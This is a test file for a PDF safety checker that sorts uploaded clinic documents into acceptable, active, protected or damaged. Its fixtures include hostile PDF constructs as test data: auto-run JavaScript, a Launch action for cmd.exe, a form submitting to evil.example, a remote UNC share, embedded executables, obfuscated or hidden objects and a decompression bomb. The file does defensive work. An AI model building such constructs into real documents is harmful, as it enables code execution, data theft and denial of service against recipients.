import { deflateSync } from "node:zlib";
import { packed, pdf, stream } from "../testing/pdfs.ts";
import { checkPdf } from "./check-pdf.ts";

const latin = (text: string): Buffer => Buffer.from(text, "latin1");

/** Bytes as compression makes them, the same each time. */
const noise = (length: number): Buffer => {
  let state = 7;
  return Buffer.from(Uint8Array.from({ length }, () => (state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) >>> 24));
};

describe("what a clinic sends is taken", () => {
  test.each<[string, Buffer]>([
    ["a page", pdf()],
    ["an older one", pdf({ version: "1.3" })],
    ["PDF 2.0", pdf({ version: "2.0" })],
    ["text that speaks of JavaScript", pdf({ objects: ["(see /JavaScript and /JS (and /Launch))", "% /JS\n<< /A 1 >>"] })],
    ["escaped parentheses", pdf({ objects: ["(a\\) /JS \\()"] })],
    ["a link to the web", pdf({ objects: ["<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example) >> >>"] })],
    ["a first page to open at", pdf({ catalog: "/OpenAction [3 0 R /Fit]" })],
    ["a form", pdf({ catalog: "/AcroForm << /Fields [] >>" })],
    ["a stream of anything", pdf({ objects: [stream("/Filter /FlateDecode", noise(2_000_000))] })],
    ["a stream in which those words happen to be", pdf({ objects: [stream("", "/JS /JavaScript /Launch")] })],
    ["packed objects", pdf({ objects: [packed("<< /Type /Font /Subtype /Type1 >>")] })],
    ["objects packed without compression", pdf({ objects: [packed("<< /Type /Font >>", "")] })],
    ["lines that end otherwise", Buffer.concat([pdf(), latin("\r\n\r\n")])],
  ])("%s", async (_name, bytes) => {
    expect(await checkPdf(bytes)).toBe("ACCEPTABLE");
  });
});

const action = "<< /S /JavaScript /JS (app.alert(1)) >>";

describe("what does something by itself is refused", () => {
  const hidden = latin(`9 0 obj\n${action}\nendobj\n`);
  test.each<[string, Buffer]>([
    ["an action when it opens", pdf({ catalog: `/OpenAction ${action}` })],
    ["its name in hexadecimal", pdf({ objects: ["<< /S /J#61va#53cript /#4a#53 (x) >>"] })],
    ["a name tree of scripts", pdf({ catalog: "/Names << /JavaScript 4 0 R >>", objects: ["<< /Names [] >>"] })],
    ["a program to start", pdf({ objects: ["<< /S /Launch /F (cmd.exe) >>"] })],
    ["a file within", pdf({ objects: [stream("/Type /EmbeddedFile", "MZ")] })],
    ["names of files within", pdf({ catalog: "/Names << /EmbeddedFiles 4 0 R >>" })],
    ["rich media", pdf({ objects: ["<< /Type /Annot /Subtype /RichMedia >>"] })],
    ["an XFA form", pdf({ catalog: "/AcroForm << /XFA 4 0 R >>" })],
    ["a form that sends itself", pdf({ objects: ["<< /S /SubmitForm /F (https://evil.example) >>"] })],
    ["a file elsewhere", pdf({ objects: ["<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>"] })],
    ["a script among packed objects", pdf({ objects: [packed(action)] })],
    ["a script among objects packed without compression", pdf({ objects: [packed(action, "")] })],
    [
      "packed objects that don't say their type",
      pdf({ objects: [stream("/N 1 /First 5 /Filter /FlateDecode", deflateSync(latin(`9 0  ${action}`)))] }),
    ],
    ["an object within a stream's data", pdf({ objects: [stream("", hidden)] })],
    ["an object within a string", pdf({ objects: [`(9 0 obj ${action.replace("(app.alert(1))", "1")} endobj)`] })],
    ["an object within a comment", pdf({ objects: [`%9 0 obj ${action} endobj\n<< >>`] })],
    ["an object whose numbers stand in another line", pdf({ objects: [stream("", `9 0 %comment\nobj${action}\nendobj`)] })],
    ["an object directly behind its number", pdf({ objects: [stream("", `9 0obj${action}endobj`)] })],
    ["an object behind null characters", pdf({ objects: [stream("", `9\x000\x00obj${action}endobj`)] })],
    ["a script behind a string that nobody closed", pdf({ objects: [`<< ${action.slice(3, -3)} /T (`] })],
    ["a script where data end too early", pdf({ objects: [stream("/Filter /FlateDecode", `endstream\nendobj\n9 0 obj\n${action}`)] })],
  ])("%s", async (_name, bytes) => {
    expect(await checkPdf(bytes)).toBe("ACTIVE");
  });
});

describe("what can't be read is refused", () => {
  const whole = pdf();
  const bomb = stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", deflateSync(Buffer.alloc(100_000_000)));
  test.each<[string, Buffer, string]>([
    ["a password", pdf({ trailer: "/Encrypt 9 0 R" }), "PROTECTED"],
    ["half of it", whole.subarray(0, whole.length / 2), "DAMAGED"],
    ["no end", whole.subarray(0, -8), "DAMAGED"],
    ["only a beginning", latin("%PDF-1.7\n"), "DAMAGED"],
    ["another version", pdf({ version: "9.9" }), "DAMAGED"],
    ["something behind its end", Buffer.concat([whole, latin("<script>alert(1)</script>")]), "DAMAGED"],
    ["an archive behind its end", Buffer.concat([whole, latin("PK\x05\x06".padEnd(22, "\0"))]), "DAMAGED"],
    [
      "an archive in a comment before its end",
      Buffer.concat([whole.subarray(0, -6), latin(`%PK\x05\x06${"\0".repeat(18)}\n%%EOF\n`)]),
      "DAMAGED",
    ],
    ["a table that isn't there", latin(whole.toString("latin1").replace(/startxref\n\d+/, "startxref\n12")), "DAMAGED"],
    ["a table beyond its end", latin(whole.toString("latin1").replace(/startxref\n\d+/, "startxref\n999999")), "DAMAGED"],
    ["no page", latin(whole.toString("latin1").replaceAll("Pages", "Pagez")), "DAMAGED"],
    ["objects packed in an unknown way", pdf({ objects: [packed(action, "/Filter /LZWDecode")] }), "DAMAGED"],
    ["objects packed twice", pdf({ objects: [packed(action, "/Filter [/FlateDecode /FlateDecode]")] }), "DAMAGED"],
    ["objects whose packing stands elsewhere", pdf({ objects: [packed(action, "/Filter 8 0 R")] }), "DAMAGED"],
    [
      "packed objects that are cut off",
      pdf({ objects: [stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", deflateSync(noise(500)).subarray(0, 200))] }),
      "DAMAGED",
    ],
    ["packed objects that unfold without end", pdf({ objects: [bomb] }), "DAMAGED"],
    ["a maze", pdf({ objects: ["1 0 obj (".repeat(50_000)] }), "DAMAGED"],
  ])("%s", async (_name, bytes, verdict) => {
    expect(await checkPdf(bytes)).toBe(verdict);
  });
});

describe("megabytes of anything hold nobody else up", () => {
  const fill = (piece: string): string => piece.repeat(Math.floor(3_000_000 / piece.length));
  test.each([
    ["names", "4 0 obj " + fill("/A ")],
    ["names that tell", "4 0 obj " + fill("/Filter ")],
    ["hidden letters", "4 0 obj " + fill("/#41#42 ")],
    ["objects", fill("4 0 obj\n<< /A 1 >>\nendobj\n")],
    ["words", "4 0 obj " + fill("ab ")],
    ["comments", "4 0 obj " + fill("%\n")],
    ["one number", "4 0 obj " + fill("1")],
    ["data", "4 0 obj << >>\nstream\n" + fill("\x81")],
  ])("%s", async (_name, middle) => {
    const bytes = pdf({ objects: [middle] });
    let turns = 0;
    const others = setInterval(() => (turns += 1), 1);
    const began = performance.now();
    expect(await checkPdf(bytes)).toBe("ACCEPTABLE");
    clearInterval(others);
    // Whatever takes long lets others in between, again and again.
    expect(turns).toBeGreaterThanOrEqual(Math.floor((performance.now() - began) / 1_000));
  });
});
